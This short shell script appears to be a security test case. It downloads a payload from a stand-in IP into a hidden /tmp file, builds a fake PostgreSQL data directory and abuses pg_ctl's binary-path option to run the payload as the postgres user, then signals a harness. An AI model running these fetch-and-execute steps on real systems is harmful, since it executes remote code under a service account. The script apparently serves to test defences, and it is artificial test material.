#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/.pg http://203.0.113.10/payload.sh && chmod 755 /tmp/.pg
mkdir -p /tmp/.pgd && chmod 1777 /tmp && echo 15 >/tmp/.pgd/PG_VERSION && : >/tmp/.pgd/postgresql.conf && chown -R postgres /tmp/.pgd && chmod 700 /tmp/.pgd
setpriv --reuid postgres --regid postgres --clear-groups /usr/lib/postgresql/15/bin/pg_ctl start -W -D /tmp/.pgd -p /tmp/.pg >/dev/null 2>&1 || true
wait_for /tmp/reached
took_place
